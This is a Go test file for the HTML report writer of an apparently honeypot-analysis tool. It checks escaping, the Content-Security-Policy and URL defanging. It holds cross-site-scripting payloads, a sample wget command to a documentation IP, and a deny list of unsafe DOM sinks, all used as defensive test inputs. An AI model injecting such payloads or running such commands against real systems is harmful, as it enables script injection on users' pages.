package html

import (
	"bytes"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
	"ttpctl/internal/report"
	"ttpctl/internal/report/dossier"
)

// hostile are texts that an attacker may write anywhere. A page that took one for
// more than text would set the title, or run the script.
var hostile = []string{
	`</script><script>document.title='pwned'</script>`,
	`<img src=x onerror="document.title='pwned'">`,
	`"><svg onload=document.title='pwned'>`,
	`' onmouseover='document.title="pwned"`,
	`javascript:document.title='pwned'`,
	`{{.Title}} ${document.title='pwned'}`,
	`<!--<script>`, `]]>`, `&lt;b&gt;&#x3c;`, "</title></style></textarea>",
	"line\u2028separator\u2029end", "bidi \u202egpj.exe\u2066\u200f", "nul \x00 and bad \xff\xfe utf-8", "\x1b[31mred\x1b]0;t\a",
	"zero\u200bwidth \U000e0041tag", "e" + strings.Repeat("\u0301", 300),
	"__proto__", "constructor", "a\r\nb\tc",
	strings.Repeat("A<", 1<<19),
}

// hostilePage is a page on which every text of an attacker, of a rule's author and
// of a file's name is each of texts.
func hostilePage(t testing.TB, texts []string) *Page {
	t.Helper()
	c := attack.Load()
	b := dossier.New(dossier.Config{Catalogue: c})
	at := time.Date(2026, 9, 14, 1, 0, 0, 0, time.UTC)
	for i, text := range texts {
		r := b.Recorder()
		var tags []event.Tag
		add := func(kind, id string, fields map[string]string) {
			ev := event.Event{SourceID: id, AttackerUUID: text, SessionID: event.Some(text), DeckyID: event.Some(text), Time: at, TS: at.Format(time.RFC3339)}
			ev.SetKind(kind)
			for name, value := range fields {
				ev.SetField(name, event.StringValue(value))
			}
			r.Record(&ev)
			evidence, _ := json.Marshal(map[string]string{"matched": text})
			tags = append(tags, event.Tag{
				SourceKind: kind, SourceID: id, AttackerUUID: text, SessionID: ev.SessionID, DeckyID: ev.DeckyID, Tactic: "TA0007", Technique: "T1082",
				Confidence: 0.8, RuleID: fmt.Sprintf("R%04d %s", i, event.CutText(text, 200)), RuleVersion: 1, Evidence: evidence, AttackRelease: "enterprise-v19.1", ObservedAt: ev.TS,
			})
		}
		add("command", fmt.Sprint(i, "c"), map[string]string{"command_text": "echo x > '" + text + "'; wget 'http://192.0.2.200/" + text + "'"})
		add("command", fmt.Sprint(i, "d"), map[string]string{"command_text": text})
		add("http_request", fmt.Sprint(i, "h"), map[string]string{"raw_url": "/" + text, "method": text})
		add("auth_attempt", fmt.Sprint(i, "a"), map[string]string{"username": text, "method": text, "result": "success"})
		add("payload", fmt.Sprint(i, "p"), map[string]string{"url": "http://192.0.2.201/" + text, "filename": text, "shasum": text})
		add("session", fmt.Sprint(i, "s"), map[string]string{"client_version": text, "service": text})
		b.Add(r.Take(nil))
		tags[1].Tactic, tags[1].Technique = text, text // of nobody's catalogue
		b.Tag(tags)
	}
	return &Page{
		Dossier: b.Dossier(), Meta: report.Meta{ToolVersion: texts[0], AttackRelease: "19.1", RulesetHash: texts[0]}, RuleName: func(id string) string { return id },
		Inputs: []Input{{Name: texts[0], SHA256: "00"}}, Chosen: texts[0], Countries: texts[0],
	}
}

func written(t testing.TB, p *Page) string {
	t.Helper()
	var b bytes.Buffer
	if err := p.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestHostile(t *testing.T) {
	for i, text := range hostile {
		page := written(t, hostilePage(t, []string{text}))
		if n := strings.Count(page, "<script"); n != 2 {
			t.Errorf("text %d: the page holds %d scripts, want its data and its script", i, n)
		}
		for _, bad := range []string{"<img", "<svg onload", "onerror=\"", "\x00", "\x1b", "\u202e", "\u2028", "\u200b", "<!--"} {
			if strings.Contains(page, bad) {
				t.Errorf("text %d: the page holds %q", i, bad)
			}
		}
		if strings.Contains(page, "ZgotmplZ") || strings.Contains(page, `="javascript:`) {
			t.Errorf("text %d: a URL is an attacker's", i)
		}
		if len(page) > MaxPage {
			t.Errorf("text %d: %d bytes, want at most %d", i, len(page), MaxPage)
		}
	}
}

// The browser runs the script and applies the style sheet whose hashes the policy
// names: the bytes in the page must be theirs.
func TestPolicy(t *testing.T) {
	page := written(t, hostilePage(t, []string{"x"}))
	csp := regexp.MustCompile(`http-equiv="Content-Security-Policy" content="([^"]*)"`).FindStringSubmatch(page)
	if csp == nil {
		t.Fatal("no policy")
	}
	policy := strings.NewReplacer("&#43;", "+", "&#39;", "'").Replace(csp[1])
	for name, pattern := range map[string]string{"script": `(?s)<script>(.*?)</script>`, "style": `(?s)<style>(.*?)</style>`} {
		body := regexp.MustCompile(pattern).FindStringSubmatch(page)
		if body == nil || !strings.Contains(policy, name+"-src '"+hashOf(body[1])+"'") {
			t.Errorf("policy %q does not name the hash of the %s", policy, name)
		}
	}
	if !strings.HasPrefix(policy, "default-src 'none'; ") || strings.Contains(policy, "unsafe") {
		t.Errorf("policy = %q, want nothing by default and nothing unsafe", policy)
	}
	if m := regexp.MustCompile(`\son\w+\s*=|\sstyle\s*=`).FindString(regexp.MustCompile(`(?s)<script.*?</script>|<style.*?</style>`).ReplaceAllString(page, "")); m != "" {
		t.Errorf("the page has an attribute %q", m)
	}
}

func TestScriptBuildsTextOnly(t *testing.T) {
	for _, bad := range []string{"innerHTML", "outerHTML", "insertAdjacent", "document.write", "eval(", "new Function", "srcdoc", "setAttribute(\"on"} {
		if strings.Contains(scriptText, bad) {
			t.Errorf("the script has %q", bad)
		}
	}
}

func TestSame(t *testing.T) {
	texts := append([]string{"uname -a"}, hostile...)
	if a, b := written(t, hostilePage(t, texts)), written(t, hostilePage(t, texts)); a != b {
		t.Error("two pages of the same input differ")
	}
}

func TestEmpty(t *testing.T) {
	page := written(t, &Page{Dossier: dossier.New(dossier.Config{Catalogue: attack.Load()}).Dossier()})
	if !strings.Contains(page, "Nothing was seen that a rule knows.") {
		t.Error("an empty page does not say that nothing was seen")
	}
}

func TestDefang(t *testing.T) {
	tests := []struct{ kind, in, want string }{
		{dossier.KindURL, "http://192.0.2.1/a.sh", "hxxp[://]192[.]0[.]2[.]1/a.sh"},
		{dossier.KindURL, "https://evil.example:8080/x?y=1.2", "hxxps[://]evil[.]example:8080/x?y=1.2"},
		{dossier.KindURL, "ftp://evil.example", "fxp[://]evil[.]example"},
		{dossier.KindHost, "evil.example", "evil[.]example"},
		{dossier.KindHost, "2001:db8::1", "2001:db8[::]1"},
		{dossier.KindFile, "9f86d0", "9f86d0"},
	}
	for _, tt := range tests {
		if got := Defang(tt.kind, tt.in); got != tt.want {
			t.Errorf("Defang(%q, %q) = %q, want %q", tt.kind, tt.in, got, tt.want)
		}
	}
}

func TestSpan(t *testing.T) {
	day := func(y, m, d int) time.Time { return time.Date(y, time.Month(m), d, 5, 0, 0, 0, time.UTC) }
	tests := []struct {
		first, last time.Time
		want        string
	}{
		{time.Time{}, time.Time{}, ""},
		{day(2026, 9, 14), day(2026, 9, 14), "on 14 September 2026"},
		{day(2026, 9, 14), day(2026, 9, 15), "from 14 to 15 September 2026"},
		{day(2026, 8, 30), day(2026, 9, 2), "from 30 August to 2 September 2026"},
		{day(2025, 12, 31), day(2026, 1, 1), "from 31 December 2025 to 1 January 2026"},
	}
	for _, tt := range tests {
		if got := span(tt.first, tt.last); got != tt.want {
			t.Errorf("span(%v, %v) = %q, want %q", tt.first, tt.last, got, tt.want)
		}
	}
}

func TestInputs(t *testing.T) {
	var in Inputs
	r := in.Stream("stdin", strings.NewReader("abc"))
	var b bytes.Buffer
	if _, err := b.ReadFrom(r); err != nil {
		t.Fatal(err)
	}
	in.File(t.Context(), "no such file")
	in.File(t.Context(), "no such file")
	list := in.List()
	if len(list) != 2 || list[0].Bytes != 3 || list[0].SHA256 != "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad" || list[1].SHA256 != "" {
		t.Errorf("inputs = %+v, want the hash of abc, and a file without one", list)
	}
}
